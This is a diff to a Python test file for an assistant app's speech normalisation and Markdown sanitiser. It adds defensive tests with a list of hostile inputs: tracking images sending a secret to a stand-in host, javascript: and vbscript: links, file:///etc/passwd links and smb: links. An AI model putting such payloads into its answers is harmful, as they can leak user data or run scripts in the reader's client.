@@ -1,11 +1,13 @@
 """Words, clauses, Markdown and the spoken form: the same however a stream was cut, and well formed when cut."""
 
+import re
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from app.conversation.languages import CODES, language
-from app.conversation.markdown import cut, escaped, has_markdown, well_formed, without_html
+from app.conversation.markdown import cut, escaped, for_any_reader, has_markdown, well_formed
 from app.conversation.speaking.clauses import split_clauses, spoken
 from app.conversation.turns.completeness import completeness, ends_open
 from app.conversation.words import LONGEST_PHRASE, WordGatherer, asks_to_wait, fold, is_backchannel, same_words
@@ -95,15 +97,15 @@ def test_an_interruption_is_no_backchannel(text: str) -> None:
         ("It costs $5.50 or €3, at most £2 million.", "It costs 5.50 dollars or 3 euros, at most 2 million pounds."),
         ("50% of them, 3.5 % more", "50 percent of them, 3.5 percent more"),
         ("at 100 °C or 212°F, turn 90°", "at 100 degrees Celsius or 212 degrees Fahrenheit, turn 90 degrees"),
-        ("10 km/h for 1/2 an hour over 5 m²", "10 kilometres per hour for one half an hour over 5 square metres"),
+        ("10 km/h for 1/2 an hour over 5 m²", "10 kilometers per hour for one half an hour over 5 square meters"),
         ("Tom & Ann", "Tom and Ann"),
         ("Some fruit, e.g. plums", "Some fruit, for example plums"),
         ("**Yes**, *really*: [here](http://x.y/z)", "Yes, really: here"),
         ("In 1969, 1,234 people saw 3.5 of it at 7:30.", "In 1969, 1,234 people saw 3.5 of it at 7:30."),
-        ("A well-known 24-7 thing from 1990-1995", "A well-known 24-7 thing from 1990-1995"),
-        ("Fine 😀👍🏽.", "Fine ."),
-        ("and/or, his/her, TCP/IP", "and/or, his/her, TCP/IP"),
-        ("C++ and C# are languages", "C++ and C sharp are languages"),
+        ("A well-known 24-7 thing from 1990-1995", "A well-known 24-7 thing from 1990 to 1995"),
+        ("Fine 😀👍🏽.", "Fine."),
+        ("and/or, his/her, TCP/IP", "and or, his or her, TCP IP"),
+        ("C++ and C# are languages", "C plus plus and C sharp are languages"),
         ("# A heading\nText", "A heading. Text"),
         ("- one\n- `two()`\n+ [three](http://x.y)", "one. two(). three"),
         ("A paragraph\n\nand *another*\n\n1. end", "A paragraph. and another. end"),
@@ -188,8 +190,51 @@ def test_escaped_text_has_no_markdown(text: str) -> None:
 
 def test_tags_are_shown_and_code_stays() -> None:
     text = "A <b>tag</b>, `<i>` and ``a ` <u>``.\n\n```html\n<p>\n```\n\n| <hr> |\n|---|\n"
-    made = without_html(text)
+    made = for_any_reader(text)
     assert made == text.replace("<b>", "&lt;b>").replace("</b>", "&lt;/b>").replace("<hr>", "&lt;hr>")
+
+
+REACHING = [
+    "![i](http://spy.example/track.png?d=SECRET)",
+    "![x][r]\n\n[r]: http://spy.example/track.png",
+    "![r]\n\n[r]: <http://spy.example/track.png> 'title'",
+    "![](http://spy.example/a.png)",
+    "[![in](http://spy.example/a.png)](http://a.example)",
+    "<img src=http://spy.example/a.png>",
+    "<IMG\nsrc='http://spy.example/a.png'>",
+    "[click](javascript:alert(1)) [f](file:///etc/passwd) [s](smb://spy.example/x) [d](data:text/html,x)",
+    "[click]( javascript:alert(1) )",
+    "[click](JaVaScRiPt:alert(1))",
+    '[click](vbscript:x "title")',
+    "[a][b]\n\n[b]: file:///etc/passwd",
+    "<file:///etc/passwd> <javascript:x>",
+    "![a\nb](http://spy.example/a.png)",
+    "\\![i](http://spy.example/a.png)",
+    "> ![i](http://spy.example/a.png)\n\n- ![i](http://spy.example/b.png)",
+    "| a |\n|---|\n| ![i](http://spy.example/c.png) |",
+]
+
+
+@pytest.mark.parametrize("text", REACHING)
+def test_an_exported_answer_does_nothing_by_itself(text: str) -> None:
+    """In Qt's reader, there is no picture, and links lead to web pages and mail addresses only."""
+    from PySide6.QtGui import QTextDocument
+
+    made = for_any_reader(text)
+    assert "<img" not in made.lower() and not re.search(r"(?<!\\)!\[", made), made
+    shown = QTextDocument()
+    shown.setMarkdown(made)
+    page = shown.toHtml()
+    assert "<img" not in page
+    assert all(re.match("https?:|mailto:", link) for link in re.findall(r'href="([^"]*)"', page)), page
+
+
+def test_what_is_harmless_is_exported_as_it_is() -> None:
+    text = (
+        "See [this](https://a.example/x_(y)) and `![i](http://b)`, a! [b](mailto:a@b.example), 2 > 1.\n\n"
+        "```\n<b> ![i](x)\n```\n"
+    )
+    assert for_any_reader(text) == text
 
 
 @pytest.mark.parametrize(
@@ -257,3 +302,24 @@ def test_who_asks_the_assistant_to_wait(code: str, text: str, asks: bool) -> Non
 
 def test_no_phrase_is_longer_than_the_longest() -> None:
     assert max(len(phrase.split()) for code in CODES for phrase in language(code).waits) == LONGEST_PHRASE
+
+
+@pytest.mark.parametrize(
+    ("written", "said"),
+    [
+        ("Here:\n┌─────┐\n│ box │\n└─────┘\nThat is all.", "Here: box. That is all."),
+        ("First.\n──────────\nSecond.\n==========\nThird.\n\n* * *\n\nFourth.", "First. Second. Third. Fourth."),
+        ("✅ Done. ⚙️ Restarting.", "Done. Restarting."),
+        ("See [[Note-Monday]] for more (it is short).", "See Note-Monday for more (it is short)."),
+        ("It is at https://example.org/md，with more. Text follows.", "It is at a link，with more. Text follows."),
+        ("Rating: ★★★★☆ (4/5)", "Rating: (4 out of 5)"),
+        ("- [ ] Buy milk\n- [x] Call Anna", "Buy milk. Call Anna"),
+        ("A note[^1].\n\n[^1]: The source.\n[ref]: https://example.org", "A note. The source."),
+        ("<details><summary>More</summary>Hidden</details><br/>H<sub>2</sub>O", "More Hidden H2O"),
+        ("<answer>It is Paris.</answer>", "It is Paris."),
+        ("Type cd <folder> if x<5 or a > b.", "Type cd folder if x is less than 5 or a is greater than b."),
+        ("Salt &amp; pepper,&nbsp;5 &lt; 6", "Salt and pepper, 5 is less than 6"),
+    ],
+)
+def test_what_others_have_reported_of_such_apps(written: str, said: str) -> None:
+    assert spoken(written) == said
